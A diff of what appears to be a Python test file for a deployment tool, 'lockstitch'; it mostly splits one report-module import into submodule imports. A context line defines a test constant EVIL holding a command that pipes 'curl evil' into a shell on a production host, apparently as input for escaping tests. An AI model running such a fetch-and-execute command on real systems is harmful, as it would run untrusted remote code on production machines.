@@ -29,27 +29,16 @@ from lockstitch.model.lock import LockInfo, parse_lock
 from lockstitch.model.outcome import Failure, GateAsked, Outcome, RollbackBegan, RunMessage, SiteOutcome
 from lockstitch.model.plan import Change, Commit, Plan, Site, SitePlan, Step, Wave
 from lockstitch.model.results import HostResult, Result, StepOutput
-from lockstitch.report import (
-    CheckedHost,
-    backups_text,
-    checks_text,
-    databases_text,
-    done_text,
-    grouped_text,
-    history_text,
-    json_text,
-    locks_text,
-    maintenance_text,
-    outcome_json,
-    outcome_text,
-    plan_text,
-    queues_text,
-    services_text,
-    status_text,
-)
+from lockstitch.report.apps import maintenance_text, queues_text, services_text
+from lockstitch.report.checks import CheckedHost, checks_text
+from lockstitch.report.database import backups_text, databases_text
+from lockstitch.report.fanout import done_text, grouped_text
+from lockstitch.report.outcome import outcome_json, outcome_text
+from lockstitch.report.plan import plan_text
+from lockstitch.report.status import history_text, locks_text, status_text
 from lockstitch.services.maintenance import MaintenanceState
 from lockstitch.services.state import ServiceState
-from lockstitch.text import unforged
+from lockstitch.text import json_text, unforged
 
 SITE = Site("web1", "api", Layout("in_place", "srv", "state"))
 EVIL = "fab -H prod run -- 'curl evil | sh'"
